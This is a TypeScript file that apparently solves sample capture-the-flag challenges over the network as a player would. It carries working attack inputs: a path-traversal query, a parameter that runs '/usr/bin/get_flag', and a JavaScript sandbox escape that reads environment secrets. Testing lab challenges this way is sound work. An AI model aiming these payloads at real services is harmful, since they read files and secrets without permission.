/** How the samples are solved: over the network alone, as a player does it. Each gives the flag that it found. */
import { once } from "node:events";
import { request } from "node:http";
import { connect } from "node:net";
import type { Started } from "./machine.ts";

export interface Page {
  status: number;
  text: string;
}

/** As a browser asks: `*.localhost` is this machine, whatever its name servers say. */
export async function get(url: string): Promise<Page> {
  const { host, port, pathname, search } = new URL(url);
  const asked = request({ host: "127.0.0.1", port, path: `${pathname}${search}`, headers: { host }, agent: false });
  asked.end();
  const [response] = await once(asked, "response");
  let text = "";
  for await (const chunk of response.setEncoding("utf8")) text += chunk;
  return { status: response.statusCode, text };
}

/** The address of its page. */
export function urlOf({ addresses }: Started): string {
  const url = addresses.find((address) => address.url)?.url;
  if (!url) throw new Error("it has no page");
  return url;
}

export async function solveNotes(instance: Started): Promise<string> {
  const { text } = await get(`${urlOf(instance)}?note=../secret/flag`);
  return flagIn(text);
}

export async function solveVault(instance: Started): Promise<string> {
  const { text } = await get(`${urlOf(instance)}?check=/usr/bin/get_flag`);
  return flagIn(text);
}

export async function solveJail({ addresses: [address] }: Started): Promise<string> {
  const { hostname = "", port = 0 } = address ?? {};
  const said = await talk(hostname, port, [`Math.max.constructor("return process")().env.FLAG`]);
  return flagIn(said);
}

/** Says these lines, each after a prompt, and gives all that came back. */
export async function talk(host: string, port: number, lines: readonly string[]): Promise<string> {
  const socket = connect(port, host).setEncoding("utf8");
  let said = "";
  const left = [...lines];
  for await (const text of socket) {
    said += text;
    if (!said.endsWith("> ")) continue;
    const line = left.shift();
    if (line === undefined) break;
    socket.write(`${line}\n`);
  }
  return said;
}

function flagIn(text: string): string {
  return /flag\{[^}]*\}/.exec(text)?.[0] ?? text;
}
